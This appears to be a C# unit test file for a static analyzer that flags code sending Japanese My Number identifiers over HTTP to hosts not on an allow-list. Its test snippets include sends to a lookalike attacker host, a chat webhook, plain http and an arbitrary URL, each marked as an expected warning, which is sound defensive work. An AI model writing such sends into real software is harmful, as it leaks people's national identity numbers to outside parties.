using Xunit;

namespace MyNumberAnalyzers.Tests.Rules;

public class AllowedDestinationTests
{
    private const string Usings = """
        using System;
        using System.Net.Http;
        using System.Net.Http.Json;
        using System.Threading.Tasks;
        using Microsoft.Extensions.DependencyInjection;
        public class Shinkoku { public int Nen { get; set; } public string MyNumber { get; set; } = ""; }

        """;

    private static void Check(string allowed, string text) =>
        Verify.Marked(Usings + text, only: "MYN10", options: new Dictionary<string, string> { ["mynumber.allowed_destinations"] = allowed });

    [Fact]
    public void A_host_that_is_named_may_be_sent_to_and_no_other() => Check("api.e-tax.example, *.eltax.example", """
        public class ETax(HttpClient http)
        {
            private const string Host = "https://api.e-tax.example";
            private static readonly Uri Address = new("https://api.e-tax.example/v2/shinkoku");
            public Task A(Shinkoku s) => http.PostAsJsonAsync("https://api.e-tax.example/shinkoku", s);
            public Task B(Shinkoku s) => http.PostAsJsonAsync(Host + "/shinkoku", s);
            public Task C(Shinkoku s) => http.PostAsJsonAsync($"https://kofu.eltax.example/{s.Nen}", s);
            public Task D(Shinkoku s) => http.PostAsJsonAsync(Address, s);
            public Task E(Shinkoku s) => http.PostAsJsonAsync("https://hooks.chat.example/shinkoku", {|MYN1010:s|});
            public Task F(Shinkoku s) => http.PostAsJsonAsync("https://api.e-tax.example.attacker.example/", {|MYN1010:s|});
            public Task G(Shinkoku s) => http.PostAsJsonAsync("http://api.e-tax.example/shinkoku", {|MYN1010:s|});
            public Task H(Shinkoku s, string url) => http.PostAsJsonAsync(url, {|MYN1010:s|});
        }
        """);

    [Fact]
    public void A_content_is_judged_by_the_addresses_of_its_member() => Check("api.e-tax.example", """
        public class ETax(HttpClient http)
        {
            public async Task A(string myNumber)
            {
                using var request = new HttpRequestMessage(HttpMethod.Post, "https://api.e-tax.example/shinkoku");
                request.Content = new StringContent(myNumber);
                await http.SendAsync(request);
            }

            public async Task B(string myNumber)
            {
                using var request = new HttpRequestMessage(HttpMethod.Post, "https://log.example/shinkoku");
                request.Content = new StringContent({|MYN1010:myNumber|});
                await http.SendAsync(request);
            }
        }
        """);

    [Fact]
    public void A_number_in_the_address_itself_stays_a_leak() => Check("api.e-tax.example", """
        public class ETax(HttpClient http)
        {
            public Task A(string myNumber) => http.GetAsync($"https://api.e-tax.example/shinkoku/{{|MYN1009:myNumber|}}");
        }
        """);

    [Fact]
    public void A_typed_client_has_the_address_of_its_registration() => Check("api.e-tax.example", """
        public class ETaxClient(HttpClient http) { public Task A(Shinkoku s) => http.PostAsJsonAsync("/shinkoku", s); }
        public class ChatClient(HttpClient http) { public Task A(Shinkoku s) => http.PostAsJsonAsync("/message", {|MYN1010:s|}); }
        public static class Kidou
        {
            public static void Add(IServiceCollection services)
            {
                services.AddHttpClient<ETaxClient>(c => c.BaseAddress = new Uri("https://api.e-tax.example/"));
                services.AddHttpClient<ChatClient>(c => c.BaseAddress = new Uri("https://chat.example/"));
            }
        }
        """);

    [Fact]
    public void A_type_that_is_named_may_send() => Check("Acme.Nta.IZeimusho", """
        namespace Acme.Nta { public interface IZeimusho { Task Okuru(Shinkoku s); } }
        public class Zeimusho(HttpClient http) : Acme.Nta.IZeimusho { public Task Okuru(Shinkoku s) => http.PostAsJsonAsync("/shinkoku", s); }
        public class Tsuuchi(HttpClient http) { public Task Okuru(Shinkoku s) => http.PostAsJsonAsync("/tsuuchi", {|MYN1010:s|}); }
        """);

    [Fact]
    public void Without_the_option_all_of_it_is_told() => Verify.Marked(Usings + """
        public class ETax(HttpClient http) { public Task A(Shinkoku s) => http.PostAsJsonAsync("https://api.e-tax.example/shinkoku", {|MYN1010:s|}); }
        """, only: "MYN10");
}
